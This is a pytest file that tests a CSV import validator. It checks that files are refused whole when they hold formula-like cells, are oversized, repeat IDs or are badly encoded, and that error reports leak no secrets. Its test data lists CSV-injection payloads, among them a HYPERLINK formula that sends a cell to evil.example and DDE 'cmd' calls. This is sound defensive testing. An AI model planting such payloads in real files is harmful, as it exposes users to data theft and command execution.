"""MG-02: hostile import files are refused whole, before anything is written, with a report by
line that carries no cell value (so no formula and no secret travels through it)."""

import pytest

from portal.migration.csv_rows import HEADER, validate

HEAD = ",".join(HEADER).encode()
GOOD = b"c-0,ok@example.com,Fine,us,60000001,0123456789abcdef0123456789abcdef,"


def report(*lines: bytes) -> list[tuple[int, str]]:
    result = validate(b"\n".join([HEAD, GOOD, *lines]) + b"\n")
    assert result.rows == ()  # nothing half-imported: the good row is not handed out either
    return [(p.line, p.code) for p in result.problems]


@pytest.mark.parametrize(
    "name",
    [
        b'"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
        b"+cmd|' /C calc'!A0",
        b"-2+3+cmd|' /C calc'!A0",
        b"@SUM(1+1)*cmd|' /C calc'!A0",
        b'"\t=1+1"',
        b'"\r=1+1"',
        b'" =1+1"',
    ],
)
def test_MG_02_formula_looking_cells_are_refused(name):
    assert report(b"c-1,a@example.com," + name + b",,,,") == [(3, "formula")]


def test_MG_02_oversized_files_are_refused_unparsed(settings):
    settings.MIGRATION_IMPORT_MAX_BYTES = 1024
    assert validate(HEAD + b"\n" + b"x" * 1024).problems[0].code == "file_too_large"
    settings.MIGRATION_IMPORT_MAX_BYTES = 10 * 1024 * 1024
    settings.MIGRATION_IMPORT_MAX_ROWS = 5
    rows = [b"c-%d,u%d@example.com,U,,,," % (n, n) for n in range(1, 50)]
    assert report(*rows) == [(7, "too_many_rows")]  # stops at the first row past the limit


def test_MG_02_duplicate_external_ids_are_refused():
    assert report(b"c-0,other@example.com,Other,,,,") == [(3, "duplicate_external_id")]


@pytest.mark.parametrize(
    ("line", "code"),
    [
        (b"c-1,a@example.com,Ren\xe9e,,,,", "bad_encoding"),
        (b"c-1,a@example.com,A\x00,,,,", "nul_byte"),
    ],
)
def test_MG_02_bad_encodings_are_refused_at_their_line(line, code):
    assert report(line) == [(3, code)]


def test_MG_02_the_report_never_repeats_a_secret():
    authtoken = "feedface" * 4
    result = validate(HEAD + b"\nc-1,a@example.com,A,us,," + authtoken.encode() + b",1000.x y\n")
    assert {p.code for p in result.problems} >= {"authtoken_without_org_id", "two_tokens"}
    assert authtoken not in repr(result) and "1000.x" not in repr(result)
